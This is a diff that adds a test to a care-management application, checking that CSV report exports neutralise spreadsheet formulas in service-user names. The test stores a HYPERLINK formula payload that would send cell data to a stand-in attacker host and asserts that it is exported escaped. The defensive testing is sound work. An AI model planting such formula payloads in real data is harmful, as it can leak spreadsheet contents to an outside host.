@@ -129,3 +129,21 @@ def test_files_and_drill_down(site: tuple[TestClient, Population]) -> None:
         ).status_code
         == 422
     )
+
+
+def test_csv_exports_neutralise_formulas_in_names(site: tuple[TestClient, Population], db: Database) -> None:
+    """A service user named like a formula: the API and web drill-down CSV show it, never run it."""
+    from carecluster.store import repository as repo
+    from carecluster.store.models import ServiceUser
+
+    client, p = site
+    with db.transaction() as session:
+        old = repo.current(session, ServiceUser, p.people["S3"], lock=True)
+        assert old is not None
+        repo.amend(session, old, p.user, "test", {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")'})
+    auditor = token(client, "auditor")
+    params = PERIOD | {"which": "rest", "format": "csv"}
+    api = client.get("/api/v1/reports/completeness/drill/current_cluster", params=params, headers=auditor)
+    names = {r["service_user_id"]: r["name"] for r in csv.DictReader(io.StringIO(api.text))}
+    assert names[p.people["S3"]] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert all(not name.startswith(("=", "+", "-", "@")) for name in names.values())
